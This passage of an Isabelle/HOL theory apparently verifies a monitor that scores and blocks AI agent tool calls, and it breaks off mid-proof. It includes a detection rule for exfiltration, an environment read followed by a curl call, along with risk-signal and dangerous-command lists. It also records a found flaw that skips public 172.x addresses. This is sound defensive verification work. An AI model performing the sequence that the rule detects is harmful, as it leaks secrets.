    with o check_rule_fires_iff[of re tr rule sid now] show ?thesis by blast
  qed
  have D: "(check_rule re tr (rule\<lparr>r_ordered := False\<rparr>) sid now \<noteq> None) =
        (window_events tr rule sid now \<noteq> []
         \<and> (\<forall>m \<in> set (step_matches re tr rule sid now). m \<noteq> []))"
    using check_rule_fires_iff[of re tr "rule\<lparr>r_ordered := False\<rparr>" sid now]
    by (simp add: window_events_def window_cutoff_def step_matches_def)
  from A B C D show ?thesis by blast
qed
text \<open>
  Witness for C5, after the tests: in step order the ordered rule returns the two events;
  out of step order the ordered rule does not fire and the unordered one does; a second
  step that arrives after the window does not fire.
\<close>

lemma in_order_fires:
  "check_rule literal_search in_order_tracker (exfil_rule True 300) ''s1'' 60000000 =
     Some [\<lparr>be_event_id = 1, be_timestamp = 0, be_data = read_env_data\<rparr>,
           \<lparr>be_event_id = 2, be_timestamp = 60000000, be_data = curl_data\<rparr>]"
  by code_simp

lemma wrong_order_silent:
  "check_rule literal_search wrong_order_tracker (exfil_rule True 300) ''s1'' 60000000 = None"
  by code_simp

lemma wrong_order_matches:
  "window_events wrong_order_tracker (exfil_rule True 300) ''s1'' 60000000 \<noteq> []"
  "\<forall>m \<in> set (step_matches literal_search wrong_order_tracker (exfil_rule True 300) ''s1''
                  60000000). m \<noteq> []"
  by code_simp+

lemma expired_silent:
  "check_rule literal_search expired_tracker (exfil_rule True 60) ''s1'' 120000000 = None"
  by code_simp

theorem check_rule_window_and_order_witness:
  "check_rule literal_search in_order_tracker (exfil_rule True 300) ''s1'' 60000000 =
     Some [\<lparr>be_event_id = 1, be_timestamp = 0, be_data = read_env_data\<rparr>,
           \<lparr>be_event_id = 2, be_timestamp = 60000000, be_data = curl_data\<rparr>]
   \<and> sorted (map be_timestamp
        [\<lparr>be_event_id = 1, be_timestamp = 0, be_data = read_env_data\<rparr>,
         \<lparr>be_event_id = 2, be_timestamp = 60000000, be_data = curl_data\<rparr>])
   \<and> check_rule literal_search wrong_order_tracker (exfil_rule True 300) ''s1'' 60000000 = None
   \<and> check_rule literal_search wrong_order_tracker ((exfil_rule True 300)\<lparr>r_ordered := False\<rparr>)
        ''s1'' 60000000 \<noteq> None
   \<and> check_rule literal_search expired_tracker (exfil_rule True 60) ''s1'' 120000000 = None"
proof -
  let ?res = "[\<lparr>be_event_id = 1, be_timestamp = 0, be_data = read_env_data\<rparr>,
               \<lparr>be_event_id = 2, be_timestamp = 60000000, be_data = curl_data\<rparr>]"
  note T1 = check_rule_window_and_order [of literal_search in_order_tracker "exfil_rule True 300"
      "''s1''" 60000000 ?res]
  have o: "r_ordered (exfil_rule True 300)" by (simp add: exfil_rule_def)
  from T1 in_order_fires o have s: "sorted (map be_timestamp ?res)" by blast
  note T2 = check_rule_window_and_order [of literal_search wrong_order_tracker
      "exfil_rule True 300" "''s1''" 60000000 "[]"]
  from T2 wrong_order_matches have u:
    "check_rule literal_search wrong_order_tracker ((exfil_rule True 300)\<lparr>r_ordered := False\<rparr>)
        ''s1'' 60000000 \<noteq> None"
    by blast
  from in_order_fires s wrong_order_silent u expired_silent show ?thesis by (intro conjI)
qed

subsection \<open>Risk scoring\<close>

lemma scan_first_eq: "scan_first sigs s score = score + first_match_weight sigs s"
  by (induction sigs) (simp_all add: first_match_weight_def)

lemma scan_all_eq: "scan_all sigs s score = score + matched_weights sigs s"
  by (induction sigs arbitrary: score) (simp_all add: matched_weights_def)

lemma fold_add_eq: "fold (\<lambda>x score. score + g x) xs (a::int) = a + sum_list (map g xs)"
  by (induction xs arbitrary: a) simp_all

lemma fold_ip_eq:
  "fold (\<lambda>ip score. if P ip then score + 6 else score) ips (a::int)
     = a + 6 * int (length (filter P ips))"
  by (induction ips arbitrary: a) simp_all

lemma sum_list_map_zero: "\<forall>x \<in> set xs. g x = (0::int) \<Longrightarrow> sum_list (map g xs) = 0"
  by (induction xs) simp_all

lemma compute_event_risk_eq:
  "compute_event_risk ev =
     sum_list (map (first_match_weight FILE_RISK_SIGNALS) (e_file_paths ev))
     + sum_list (map (matched_weights CMD_RISK_SIGNALS) (e_commands ev))
     + (if searches_pattern ev then matched_weights SEARCH_RISK_SIGNALS (search_text ev) else 0)
     + sum_list (map (first_match_weight URL_RISK_SIGNALS) (e_urls ev))
     + 6 * int (length (filter (\<lambda>ip. \<not> startswith_any ip local_prefixes) (e_ip_addresses ev)))"
  by (auto simp: compute_event_risk_def Let_def scan_first_eq scan_all_eq fold_add_eq fold_ip_eq
      searches_pattern_def search_text_def)

lemma private_is_local: "private_or_loopback ip \<Longrightarrow> startswith_any ip local_prefixes"
  by (auto simp: private_or_loopback_def startswith_any_def local_prefixes_def startswith_def
      prefix_def)

lemma weights_nonneg:
  "\<forall>sig \<in> set FILE_RISK_SIGNALS. 0 \<le> weight sig" "\<forall>sig \<in> set CMD_RISK_SIGNALS. 0 \<le> weight sig"
  "\<forall>sig \<in> set SEARCH_RISK_SIGNALS. 0 \<le> weight sig" "\<forall>sig \<in> set URL_RISK_SIGNALS. 0 \<le> weight sig"
  by (simp_all add: FILE_RISK_SIGNALS_def CMD_RISK_SIGNALS_def SEARCH_RISK_SIGNALS_def
      URL_RISK_SIGNALS_def weight_def)

lemma first_match_weight_nonneg:
  "\<forall>sig \<in> set sigs. 0 \<le> weight sig \<Longrightarrow> 0 \<le> first_match_weight sigs s"
  by (auto simp: first_match_weight_def find_Some_iff split: option.splits)

lemma matched_weights_nonneg:
  "\<forall>sig \<in> set sigs. 0 \<le> weight sig \<Longrightarrow> 0 \<le> matched_weights sigs s"
  by (auto simp: matched_weights_def intro!: sum_list_nonneg)

lemma first_match_weight_none:
  "\<forall>sig \<in> set sigs. \<not> signal_matches sig s \<Longrightarrow> first_match_weight sigs s = 0"
  by (simp add: first_match_weight_def find_None_iff[THEN iffD2])

lemma matched_weights_none:
  "\<forall>sig \<in> set sigs. \<not> signal_matches sig s \<Longrightarrow> matched_weights sigs s = 0"
  by (simp add: matched_weights_def)

lemma compute_event_risk_nonneg: "0 \<le> compute_event_risk ev"
proof -
  have "0 \<le> sum_list (map (first_match_weight FILE_RISK_SIGNALS) (e_file_paths ev))"
    "0 \<le> sum_list (map (matched_weights CMD_RISK_SIGNALS) (e_commands ev))"
    "0 \<le> (if searches_pattern ev then matched_weights SEARCH_RISK_SIGNALS (search_text ev)
            else 0)"
    "0 \<le> sum_list (map (first_match_weight URL_RISK_SIGNALS) (e_urls ev))"
    using weights_nonneg
    by (auto intro!: sum_list_nonneg first_match_weight_nonneg matched_weights_nonneg)
  thus ?thesis by (simp add: compute_event_risk_eq)
qed

lemma update_risk_score_delta:
  "update_risk_score db ev =
     (if compute_event_risk ev = 0 then db
      else db\<lparr>db_sessions :=
                map (\<lambda>s. if s_session_id s = e_session_id ev
                         then s\<lparr>s_risk_score := s_risk_score s + compute_event_risk ev\<rparr> else s)
                  (db_sessions db)\<rparr>)"
  using compute_event_risk_nonneg[of ev]
  by (simp add: update_risk_score_def Let_def increment_session_risk_score_def
      update_sessions_where_def)

text \<open>
  Claim C6 at the event \<open>public_172_event\<close>: its one extracted address, 172.32.0.1, is
  neither private nor loopback, so by the claim the event carries the flat weight 6. The
  code skips every address that starts with \<open>172.\<close>: the computed risk is 0 and the
  session's risk score is left as it is. The same event with the address 45.33.32.1
  scores 6.
\<close>

theorem compute_event_risk_skips_public_address:
  "e_ip_addresses public_172_event = [''172.32.0.1'']
   \<and> \<not> private_or_loopback ''172.32.0.1''
   \<and> spec_ip_risk public_172_event = 6
   \<and> compute_event_risk public_172_event = 0
   \<and> update_risk_score one_session_db public_172_event = one_session_db
   \<and> compute_event_risk (public_172_event\<lparr>e_ip_addresses := [''45.33.32.1'']\<rparr>) = 6"
  by code_simp

subsection \<open>Pre-tool evaluation\<close>

lemma str_values_string:
  "list_all (\<lambda>k. case map_of d k of None \<Rightarrow> True | Some v \<Rightarrow> is_str v) ks
     \<Longrightarrow> \<exists>vs. str_values d ks = Inr vs"
proof (induction ks)
  case Nil
  show ?case by simp
next
  case (Cons k ks)
  then obtain vs where vs: "str_values d ks = Inr vs" by auto
  from Cons.prems have "case map_of d k of None \<Rightarrow> True | Some v \<Rightarrow> is_str v" by simp
  with vs show ?case
    by (cases "map_of d k") (auto simp: is_str_def split: jval.splits)
qed

lemma string_fields_values:
  assumes "string_fields ev" and "set ks \<subseteq> set [''file_path'', ''path'', ''notebook_path'', ''pattern'', ''command'', ''url'']"
  shows "\<exists>vs. str_values (tool_input_of ev) ks = Inr vs"
proof (rule str_values_string)
  from assms(1) have "\<forall>k \<in> set [''file_path'', ''path'', ''notebook_path'', ''pattern'', ''command'', ''url''].
      case map_of (tool_input_of ev) k of None \<Rightarrow> True | Some v \<Rightarrow> is_str v"
    unfolding string_fields_def list_all_iff .
  with assms(2) show "list_all (\<lambda>k. case map_of (tool_input_of ev) k of None \<Rightarrow> True | Some v \<Rightarrow> is_str v) ks"
    unfolding list_all_iff by blast
qed

lemma enrich_string_fields:
  assumes "string_fields ev"
  shows "\<exists>ev1. enrich lib ev = Inr ev1"
proof -
  obtain a where a: "str_values (tool_input_of ev) [''file_path'', ''path'', ''notebook_path''] = Inr a"
    using string_fields_values[OF assms, of "[''file_path'', ''path'', ''notebook_path'']"] by auto
  obtain b where b: "str_values (tool_input_of ev) [''pattern''] = Inr b"
    using string_fields_values[OF assms, of "[''pattern'']"] by auto
  obtain c where c: "str_values (tool_input_of ev) [''command''] = Inr c"
    using string_fields_values[OF assms, of "[''command'']"] by auto
  obtain u where u: "str_values (tool_input_of ev) [''url''] = Inr u"
    using string_fields_values[OF assms, of "[''url'']"] by auto
  have 1: "\<exists>x. extract_file_paths lib ev = Inr x"
    unfolding extract_file_paths_def Let_def a b c by simp
  have 2: "\<exists>x. extract_commands ev = Inr x"
    unfolding extract_commands_def c by simp
  have 3: "\<exists>x. extract_urls lib ev = Inr x"
    unfolding extract_urls_def c u by simp
  have 4: "\<exists>x. extract_ip_addresses lib ev = Inr x"
    unfolding extract_ip_addresses_def c u by simp
  from 1 2 3 4 show ?thesis
    unfolding enrich_def by auto
qed

lemma enrich_fields:
  assumes "enrich lib ev = Inr ev1"
  shows "e_id ev1 = e_id ev" "e_session_id ev1 = e_session_id ev"
    "e_tool_input ev1 = e_tool_input ev" "e_tool_name ev1 = e_tool_name ev"
    "e_hook_type ev1 = e_hook_type ev" "e_enriched ev1"
  using assms by (auto simp: enrich_def split: sum.splits)

lemma classify_fields:
  assumes "classify lib ev1 = Inr ev2"
  shows "e_id ev2 = e_id ev1" "e_session_id ev2 = e_session_id ev1"
    "e_tool_input ev2 = e_tool_input ev1" "e_tool_name ev2 = e_tool_name ev1"
    "e_enriched ev2 = e_enriched ev1" "e_file_paths ev2 = e_file_paths ev1"
    "e_commands ev2 = e_commands ev1" "e_urls ev2 = e_urls ev1"
    "e_ip_addresses ev2 = e_ip_addresses ev1"
  using assms by (auto simp: classify_def split: sum.splits)

lemma string_fields_key:
  assumes "string_fields ev"
    and "k \<in> set [''file_path'', ''path'', ''notebook_path'', ''pattern'', ''command'', ''url'']"
  shows "map_of (tool_input_of ev) k = None \<or> (\<exists>s. map_of (tool_input_of ev) k = Some (JStr s))"
proof -
  from assms(1) have "\<forall>k \<in> set [''file_path'', ''path'', ''notebook_path'', ''pattern'', ''command'', ''url''].
      case map_of (tool_input_of ev) k of None \<Rightarrow> True | Some v \<Rightarrow> is_str v"
    unfolding string_fields_def list_all_iff .
  with assms(2) have "case map_of (tool_input_of ev) k of None \<Rightarrow> True | Some v \<Rightarrow> is_str v"
    by blast
  thus ?thesis
    by (cases "map_of (tool_input_of ev) k") (auto simp: is_str_def split: jval.splits)
qed

lemma classify_event_string_fields:
  assumes "string_fields ev"
  shows "\<exists>c. classify_event ev = Inr c"
proof -
  have "map_of (tool_input_of ev) ''command'' = None
        \<or> (\<exists>s. map_of (tool_input_of ev) ''command'' = Some (JStr s))"
    by (rule string_fields_key[OF assms]) simp
  hence "\<exists>s. dict_get (tool_input_of ev) ''command'' (JStr []) = JStr s"
    by (auto simp: dict_get_def)
  then obtain s where s: "dict_get (tool_input_of ev) ''command'' (JStr []) = JStr s" ..
  have ti: "(case e_tool_input ev of Some d \<Rightarrow> d | None \<Rightarrow> []) = tool_input_of ev"
    by (simp add: tool_input_of_def split: option.splits)
  obtain b where b: "is_network_command (dict_get (tool_input_of ev) ''command'' (JStr [])) = Inr b"
    by (simp add: s is_network_command_def)
  show ?thesis
    unfolding classify_event_def ti Let_def b
    by (cases "tool_lookup (e_tool_name ev)"; cases b; simp)
qed

lemma compute_severity_string_fields:
  assumes "string_fields ev"
  shows "\<exists>sev. compute_severity lib ev = Inr sev"
proof -
  have c: "map_of (tool_input_of ev) ''command'' = None
        \<or> (\<exists>s. map_of (tool_input_of ev) ''command'' = Some (JStr s))"
    by (rule string_fields_key[OF assms]) simp
  have f: "map_of (tool_input_of ev) ''file_path'' = None
        \<or> (\<exists>s. map_of (tool_input_of ev) ''file_path'' = Some (JStr s))"
    by (rule string_fields_key[OF assms]) simp
  have p: "map_of (tool_input_of ev) ''path'' = None
        \<or> (\<exists>s. map_of (tool_input_of ev) ''path'' = Some (JStr s))"
    by (rule string_fields_key[OF assms]) simp
  from c obtain s where s: "dict_get (tool_input_of ev) ''command'' (JStr []) = JStr s"
    by (auto simp: dict_get_def)
  from f p have fp: "py_or (dict_get (tool_input_of ev) ''file_path'' JNull)
                       (dict_get (tool_input_of ev) ''path'' JNull) = JNull
     \<or> (\<exists>q. py_or (dict_get (tool_input_of ev) ''file_path'' JNull)
                       (dict_get (tool_input_of ev) ''path'' JNull) = JStr q)"
    by (auto simp: dict_get_def py_or_def truthy_j_def)
  define fpv where "fpv = py_or (dict_get (tool_input_of ev) ''file_path'' JNull)
                       (dict_get (tool_input_of ev) ''path'' JNull)"
  from fp have "fpv = JNull \<or> (\<exists>q. fpv = JStr q)" by (simp add: fpv_def)
  hence "\<exists>fps. (if truthy_j fpv then
                  (case fpv of JStr p \<Rightarrow> Inr (p # e_file_paths ev) | _ \<Rightarrow> Inl TypeError)
                else Inr (e_file_paths ev)) = (Inr fps :: py_error + string list)"
    by (auto simp: truthy_j_def)
  then obtain fps where fps: "(if truthy_j fpv then
                  (case fpv of JStr p \<Rightarrow> Inr (p # e_file_paths ev) | _ \<Rightarrow> Inl TypeError)
                else Inr (e_file_paths ev)) = (Inr fps :: py_error + string list)" ..
  obtain sev1 where sev1: "(if e_category ev = COMMAND_EXEC then
              (case JStr s of
                 JStr command \<Rightarrow> Inr (scan_severity lib DANGEROUS_COMMAND_PATTERNS command INFO)
               | _ \<Rightarrow> Inl TypeError)
            else Inr INFO) = (Inr sev1 :: py_error + Severity)"
    by (cases "e_category ev = COMMAND_EXEC") simp_all
  show ?thesis
    unfolding compute_severity_def Let_def s fpv_def[symmetric] sev1 fps
    by (simp only: sum.case) blast
qed

lemma string_fields_cong:
  "e_tool_input ev' = e_tool_input ev \<Longrightarrow> string_fields ev' = string_fields ev"
  by (simp add: string_fields_def tool_input_of_def)

lemma classify_string_fields:
  assumes "string_fields ev"
  shows "\<exists>ev2. classify lib ev = Inr ev2"
proof -
  obtain c where c: "classify_event ev = Inr c"
    using classify_event_string_fields[OF assms] by auto
  have "string_fields (ev\<lparr>e_category := c\<rparr>)"
    using assms by (simp add: string_fields_def tool_input_of_def)
  then obtain sev where "compute_severity lib (ev\<lparr>e_category := c\<rparr>) = Inr sev"
    using compute_severity_string_fields by blast
  with c show ?thesis by (simp add: classify_def)
qed

lemma enrich_classify_string_fields:
  assumes "string_fields ev"
  shows "\<exists>ev1 ev2. enrich lib ev = Inr ev1 \<and> classify lib ev1 = Inr ev2"
proof -
  obtain ev1 where e: "enrich lib ev = Inr ev1"
    using enrich_string_fields[OF assms] by auto
  have "string_fields ev1"
    using assms string_fields_cong[OF enrich_fields(3)[OF e]] by simp
  then obtain ev2 where "classify lib ev1 = Inr ev2"
    using classify_string_fields by blast
  with e show ?thesis by blast
qed

lemma check_block_policies_none:
  "find (\<lambda>pol. p_action pol = BLOCK \<and> pm pol (event_to_dict ev)) pols = None
     \<Longrightarrow> check_block_policies pm en ev alert_id now pols = Inr (en, Decision True None None)"
  by (induction pols) (auto split: if_splits)

lemma check_block_policies_some:
  "find (\<lambda>pol. p_action pol = BLOCK \<and> pm pol (event_to_dict ev)) pols = Some pol
     \<Longrightarrow> check_block_policies pm en ev alert_id now pols =
         (case save_alert (en_database en) (blocked_alert pol ev alert_id now) of
            Inl err \<Rightarrow> Inl err
          | Inr db1 \<Rightarrow>
             Inr (en\<lparr>en_database := increment_session_alert_count db1 (e_session_id ev),
                     en_broadcast_alerts := en_broadcast_alerts en @ [blocked_alert pol ev alert_id now]\<rparr>,
                  Decision False (Some (''Blocked by policy: '' @ p_name pol))
                    (Some (a_id (blocked_alert pol ev alert_id now)))))"
  by (induction pols) (auto simp: Let_def split: if_splits)

lemma blocked_alert_fields:
  "a_id (blocked_alert pol ev alert_id now) = alert_id"
  "a_session_id (blocked_alert pol ev alert_id now) = e_session_id ev"
  "a_policy_id (blocked_alert pol ev alert_id now) = Some (p_id pol)"
  "a_blocked (blocked_alert pol ev alert_id now)"
  "a_event_ids (blocked_alert pol ev alert_id now) = [e_id ev]"
  "a_severity (blocked_alert pol ev alert_id now) = p_severity pol"
  "a_category (blocked_alert pol ev alert_id now) = e_category ev"
  "map ae_event_id (a_evidence (blocked_alert pol ev alert_id now)) = [e_id ev]"
  by (simp_all add: blocked_alert_def add_evidence_def Alert_def)

lemma save_alert_new:
  assumes "a_id al \<notin> set (map a_id (db_alerts db))"
    and "a_session_id al \<in> set (map s_session_id (db_sessions db))"
    and "a_policy_id al = Some pid" and "pid \<in> set (map p_id (db_policies db))"
  shows "save_alert db al = Inr (db\<lparr>db_alerts := db_alerts db @ [al]\<rparr>)"
  using assms by (simp add: save_alert_def)

lemma save_alert_frame:
  assumes "save_alert db al = Inr db1"
  shows "db_sessions db1 = db_sessions db" "db_events db1 = db_events db"
    "db_policies db1 = db_policies db" "db_graph_nodes db1 = db_graph_nodes db"
    "db_graph_edges db1 = db_graph_edges db"
  using assms by (auto simp: save_alert_def split: if_splits)

lemma increment_session_alert_count_frame:
  "db_events (increment_session_alert_count db sid) = db_events db"
  "db_alerts (increment_session_alert_count db sid) = db_alerts db"
  "db_policies (increment_session_alert_count db sid) = db_policies db"
  "db_graph_nodes (increment_session_alert_count db sid) = db_graph_nodes db"
  "db_graph_edges (increment_session_alert_count db sid) = db_graph_edges db"
  "map s_risk_score (db_sessions (increment_session_alert_count db sid)) = map s_risk_score (db_sessions db)"
  "map s_event_count (db_sessions (increment_session_alert_count db sid)) = map s_event_count (db_sessions db)"
  "map s_session_id (db_sessions (increment_session_alert_count db sid)) = map s_session_id (db_sessions db)"
  "map s_status (db_sessions (increment_session_alert_count db sid)) = map s_status (db_sessions db)"
  by (simp_all add: increment_session_alert_count_def update_sessions_where_def)

text \<open>
  Claim C1, with the reason the code gives. For every event whose tool input has strings
  in the fields that are read, \<open>evaluate_pre_tool\<close> enriches and classifies the event. If
  no cached BLOCK policy matches the classified event, the engine is unchanged and the
  decision is \<open>allow\<close>. If \<open>pol\<close> is the first cached BLOCK policy that matches, and the
  session and the policy are stored and the alert id is new, then one alert is appended
  to the stored alerts and handed to the broadcaster: it is blocked, has the policy's
  severity, lists exactly the denied event's id, and its evidence refers to that event;
  the alert counter of the session goes up by one; and the decision is \<open>deny\<close> with the
  alert's id and the reason \<open>Blocked by policy: \<close> followed by the policy's name.
\<close>

theorem evaluate_pre_tool_blocks_first_match:
  assumes "string_fields event"
  shows "\<exists>ev1 ev2.
     enrich lib event = Inr ev1 \<and> classify lib ev1 = Inr ev2
     \<and> e_enriched ev2 \<and> e_id ev2 = e_id event
     \<and> (first_block_match pm (en_policies en) ev2 = None \<longrightarrow>
          evaluate_pre_tool lib pm en event alert_id now = Inr (en, ev2, Decision True None None))
     \<and> (\<forall>pol. first_block_match pm (en_policies en) ev2 = Some pol
            \<and> alert_id \<notin> set (map a_id (db_alerts (en_database en)))
            \<and> e_session_id event \<in> set (map s_session_id (db_sessions (en_database en)))
            \<and> p_id pol \<in> set (map p_id (db_policies (en_database en))) \<longrightarrow>
          (\<exists>en' al.
             evaluate_pre_tool lib pm en event alert_id now =
               Inr (en', ev2, Decision False (Some (''Blocked by policy: '' @ p_name pol))
                               (Some alert_id))
             \<and> db_alerts (en_database en') = db_alerts (en_database en) @ [al]
             \<and> en_broadcast_alerts en' = en_broadcast_alerts en @ [al]
             \<and> a_id al = alert_id \<and> a_blocked al \<and> a_event_ids al = [e_id event]
             \<and> a_severity al = p_severity pol \<and> a_session_id al = e_session_id event
             \<and> a_policy_id al = Some (p_id pol)
             \<and> map ae_event_id (a_evidence al) = [e_id event]
             \<and> db_sessions (en_database en') =
                 map (\<lambda>s. if s_session_id s = e_session_id event
                          then s\<lparr>s_alert_count := s_alert_count s + 1\<rparr> else s)
                   (db_sessions (en_database en))))"
proof -
  obtain ev1 ev2 where e1: "enrich lib event = Inr ev1" and c2: "classify lib ev1 = Inr ev2"
    using enrich_classify_string_fields[OF assms] by blast
  have id2: "e_id ev2 = e_id event"
    using enrich_fields(1)[OF e1] classify_fields(1)[OF c2] by simp
  have sid2: "e_session_id ev2 = e_session_id event"
    using enrich_fields(2)[OF e1] classify_fields(2)[OF c2] by simp
  have en2: "e_enriched ev2"
    using enrich_fields(6)[OF e1] classify_fields(5)[OF c2] by simp
  have ev: "evaluate_pre_tool lib pm en event alert_id now =
      (case check_block_policies pm en ev2 alert_id now (en_policies en) of
         Inl err \<Rightarrow> Inl err | Inr (en1, dec) \<Rightarrow> Inr (en1, ev2, dec))"
    by (simp add: evaluate_pre_tool_def e1 c2)
  have A: "first_block_match pm (en_policies en) ev2 = None \<longrightarrow>
          evaluate_pre_tool lib pm en event alert_id now = Inr (en, ev2, Decision True None None)"
  proof
    assume "first_block_match pm (en_policies en) ev2 = None"
    hence "check_block_policies pm en ev2 alert_id now (en_policies en)
             = Inr (en, Decision True None None)"
      unfolding first_block_match_def by (rule check_block_policies_none)
    thus "evaluate_pre_tool lib pm en event alert_id now = Inr (en, ev2, Decision True None None)"
      by (simp add: ev)
  qed
  have B: "\<exists>en' al.
             evaluate_pre_tool lib pm en event alert_id now =
               Inr (en', ev2, Decision False (Some (''Blocked by policy: '' @ p_name pol))
                               (Some alert_id))
             \<and> db_alerts (en_database en') = db_alerts (en_database en) @ [al]
             \<and> en_broadcast_alerts en' = en_broadcast_alerts en @ [al]
             \<and> a_id al = alert_id \<and> a_blocked al \<and> a_event_ids al = [e_id event]
             \<and> a_severity al = p_severity pol \<and> a_session_id al = e_session_id event
             \<and> a_policy_id al = Some (p_id pol)
             \<and> map ae_event_id (a_evidence al) = [e_id event]
             \<and> db_sessions (en_database en') =
                 map (\<lambda>s. if s_session_id s = e_session_id event
                          then s\<lparr>s_alert_count := s_alert_count s + 1\<rparr> else s)
                   (db_sessions (en_database en))"
    if f: "first_block_match pm (en_policies en) ev2 = Some pol"
      and fresh: "alert_id \<notin> set (map a_id (db_alerts (en_database en)))"
      and sess: "e_session_id event \<in> set (map s_session_id (db_sessions (en_database en)))"
      and stored: "p_id pol \<in> set (map p_id (db_policies (en_database en)))"
    for pol
  proof -
    let ?al = "blocked_alert pol ev2 alert_id now"
    let ?db1 = "(en_database en)\<lparr>db_alerts := db_alerts (en_database en) @ [?al]\<rparr>"
    let ?en' = "en\<lparr>en_database := increment_session_alert_count ?db1 (e_session_id ev2),
                   en_broadcast_alerts := en_broadcast_alerts en @ [?al]\<rparr>"
    have sv: "save_alert (en_database en) ?al = Inr ?db1"
      by (rule save_alert_new[where pid = "p_id pol"])
         (use fresh sess stored in \<open>simp_all add: blocked_alert_fields sid2\<close>)
    have "check_block_policies pm en ev2 alert_id now (en_policies en) =
            Inr (?en', Decision False (Some (''Blocked by policy: '' @ p_name pol)) (Some alert_id))"
      using check_block_policies_some[where pm = pm and ev = ev2 and pols = "en_policies en"
          and pol = pol and en = en and alert_id = alert_id and now = now]
        f[unfolded first_block_match_def]
      by (simp add: sv blocked_alert_fields)
    hence 1: "evaluate_pre_tool lib pm en event alert_id now =
               Inr (?en', ev2, Decision False (Some (''Blocked by policy: '' @ p_name pol))
                               (Some alert_id))"
      by (simp add: ev)
    have 2: "db_alerts (en_database ?en') = db_alerts (en_database en) @ [?al]"
      by (simp add: increment_session_alert_count_frame)
    have 3: "en_broadcast_alerts ?en' = en_broadcast_alerts en @ [?al]" by simp
    have 4: "db_sessions (en_database ?en') =
                 map (\<lambda>s. if s_session_id s = e_session_id event
                          then s\<lparr>s_alert_count := s_alert_count s + 1\<rparr> else s)
                   (db_sessions (en_database en))"
      by (simp add: increment_session_alert_count_def update_sessions_where_def sid2)
    have 5: "a_id ?al = alert_id" "a_blocked ?al" "a_event_ids ?al = [e_id event]"
      "a_severity ?al = p_severity pol" "a_session_id ?al = e_session_id event"
      "a_policy_id ?al = Some (p_id pol)" "map ae_event_id (a_evidence ?al) = [e_id event]"
      by (simp_all add: blocked_alert_fields id2 sid2)
    show ?thesis
      by (rule exI[of _ ?en'], rule exI[of _ ?al]) (intro conjI 1 2 3 4 5)
  qed
  show ?thesis
    by (rule exI[of _ ev1], rule exI[of _ ev2])
       (intro conjI allI impI e1 c2 en2 id2 A; elim conjE; rule B; assumption)
qed

text \<open>
  Counterexample for C1 as stated: with a session \<open>s1\<close> and the enabled BLOCK policy
  named \<open>P1\<close>, which matches every event, a Bash call is denied with the reason
  \<open>Blocked by policy: P1\<close>, which is not the policy's name.
\<close>

theorem evaluate_pre_tool_reason_counterexample:
  "returned_decision (evaluate_pre_tool quiet_lib matches_enabled block_engine bash_event 9 100)
     = Some (Decision False (Some ''Blocked by policy: P1'') (Some 9))
   \<and> p_name block_all_policy = ''P1''
   \<and> ''Blocked by policy: P1'' \<noteq> p_name block_all_policy"
  by code_simp

text \<open>
  Witness for C1: the Bash call against the engine with the policy \<open>P1\<close> is denied and
  alert 9 is stored; against the same engine with no cached policy it is allowed.
\<close>

lemma bash_event_enriched:
  "string_fields bash_event"
  "enrich quiet_lib bash_event = Inr (bash_event\<lparr>e_enriched := True\<rparr>)"
  "classify quiet_lib (bash_event\<lparr>e_enriched := True\<rparr>) = Inr bash_event_classified"
  "first_block_match matches_enabled (en_policies block_engine) bash_event_classified
     = Some block_all_policy"
  "first_block_match matches_enabled (en_policies (block_engine\<lparr>en_policies := []\<rparr>))
     bash_event_classified = None"
  "9 \<notin> set (map a_id (db_alerts (en_database block_engine)))"
  "e_session_id bash_event \<in> set (map s_session_id (db_sessions (en_database block_engine)))"
  "p_id block_all_policy \<in> set (map p_id (db_policies (en_database block_engine)))"
  "p_name block_all_policy = ''P1''"
  by code_simp+

theorem evaluate_pre_tool_blocks_first_match_witness:
  "string_fields bash_event
   \<and> returned_decision (evaluate_pre_tool quiet_lib matches_enabled block_engine bash_event 9 100)
       = Some (Decision False (Some ''Blocked by policy: P1'') (Some 9))
   \<and> returned_decision
        (evaluate_pre_tool quiet_lib matches_enabled (block_engine\<lparr>en_policies := []\<rparr>)
           bash_event 9 100)
       = Some (Decision True None None)"
proof -
  from evaluate_pre_tool_blocks_first_match[OF bash_event_enriched(1),
      where lib = quiet_lib and pm = matches_enabled and en = block_engine
        and alert_id = 9 and now = 100]
  obtain ev2 where c: "classify quiet_lib (bash_event\<lparr>e_enriched := True\<rparr>) = Inr ev2"
    and B: "\<forall>pol. first_block_match matches_enabled (en_policies block_engine) ev2 = Some pol
            \<and> 9 \<notin> set (map a_id (db_alerts (en_database block_engine)))
            \<and> e_session_id bash_event \<in> set (map s_session_id (db_sessions (en_database block_engine)))
            \<and> p_id pol \<in> set (map p_id (db_policies (en_database block_engine))) \<longrightarrow>
          (\<exists>en'. evaluate_pre_tool quiet_lib matches_enabled block_engine bash_event 9 100 =
               Inr (en', ev2, Decision False (Some (''Blocked by policy: '' @ p_name pol)) (Some 9)))"
    unfolding bash_event_enriched(2) by blast
  from c have ev2: "ev2 = bash_event_classified" by (simp add: bash_event_enriched(3))
  from B[rule_format, of block_all_policy] bash_event_enriched(4,6,7,8)
  obtain en' where "evaluate_pre_tool quiet_lib matches_enabled block_engine bash_event 9 100 =
               Inr (en', ev2, Decision False (Some (''Blocked by policy: '' @ p_name block_all_policy)) (Some 9))"
    unfolding ev2 by blast
  hence D: "returned_decision (evaluate_pre_tool quiet_lib matches_enabled block_engine bash_event 9 100)
       = Some (Decision False (Some ''Blocked by policy: P1'') (Some 9))"
    by (simp add: returned_decision_def bash_event_enriched(9))
  define en0 where "en0 = block_engine\<lparr>en_policies := []\<rparr>"
  from evaluate_pre_tool_blocks_first_match[OF bash_event_enriched(1),
      where lib = quiet_lib and pm = matches_enabled and en = en0
        and alert_id = 9 and now = 100]
  obtain ev1 ev3 where e3: "enrich quiet_lib bash_event = Inr ev1"
    and c3': "classify quiet_lib ev1 = Inr ev3"
    and A: "first_block_match matches_enabled (en_policies en0) ev3 = None \<longrightarrow>
          evaluate_pre_tool quiet_lib matches_enabled en0 bash_event 9 100
            = Inr (en0, ev3, Decision True None None)"
    by (elim exE conjE) (rule that)
  from e3 have "ev1 = bash_event\<lparr>e_enriched := True\<rparr>" by (simp add: bash_event_enriched(2))
  with c3' have c3: "classify quiet_lib (bash_event\<lparr>e_enriched := True\<rparr>) = Inr ev3" by simp
  from c3 have ev3: "ev3 = bash_event_classified" by (simp add: bash_event_enriched(3))
  from A bash_event_enriched(5) have
    "evaluate_pre_tool quiet_lib matches_enabled en0 bash_event 9 100
            = Inr (en0, ev3, Decision True None None)"
    unfolding ev3 en0_def by blast
  hence E: "returned_decision
